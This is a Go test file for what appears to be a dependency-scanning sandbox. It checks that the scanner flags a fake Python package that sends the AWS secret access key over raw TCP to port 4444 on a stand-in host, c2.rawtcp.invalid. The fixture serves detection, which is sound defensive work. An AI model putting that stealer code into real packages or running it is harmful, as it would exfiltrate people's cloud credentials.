package scan_test

import (
	"slices"
	"testing"

	"github.com/depbox/depbox/profile"
)

// TestRawTCPExfilPort: a distribution that opens a raw TCP connection to a
// reverse-shell port (4444) and sends the secret key. Python's socket
// raises on a refused connect before anything is sent, so the theft is
// seen only when the fake internet answers on that port (fakenet.Ports).
func TestRawTCPExfilPort(t *testing.T) {
	requirePython(t)
	dir := writeTree(t, map[string]string{
		"lambda_function.py": "import rawtcp\n\ndef lambda_handler(event, context):\n    return {'ok': True}\n",
		"rawtcp/__init__.py": "# TEST FIXTURE imitating a raw-TCP stealer; runs only in depbox's sandbox.\n" +
			"import os, socket\n" +
			"try:\n    s = socket.create_connection(('c2.rawtcp.invalid', 4444), timeout=2)\n" +
			"    s.sendall(('k=' + os.environ.get('AWS_SECRET_ACCESS_KEY', '')).encode())\n    s.close()\n" +
			"except OSError:\n    pass\n",
		"rawtcp-1.0.dist-info/METADATA":      "Metadata-Version: 2.1\nName: rawtcp\nVersion: 1.0\n",
		"rawtcp-1.0.dist-info/RECORD":        "rawtcp/__init__.py,,\nrawtcp-1.0.dist-info/METADATA,,\nrawtcp-1.0.dist-info/RECORD,,\nrawtcp-1.0.dist-info/top_level.txt,,\n",
		"rawtcp-1.0.dist-info/top_level.txt": "rawtcp\n",
	})
	p := run(t, invokeOptions(t, dir))
	b := importOf(t, p, "rawtcp-1.0.dist-info")
	if !slices.ContainsFunc(b.Exfiltration, func(e profile.Exfil) bool { return e.Canary == "AWS_SECRET_ACCESS_KEY" }) {
		t.Errorf("no exfiltration of the secret key over TCP port 4444: %+v (network %+v)", b.Exfiltration, b.Network)
	}
}
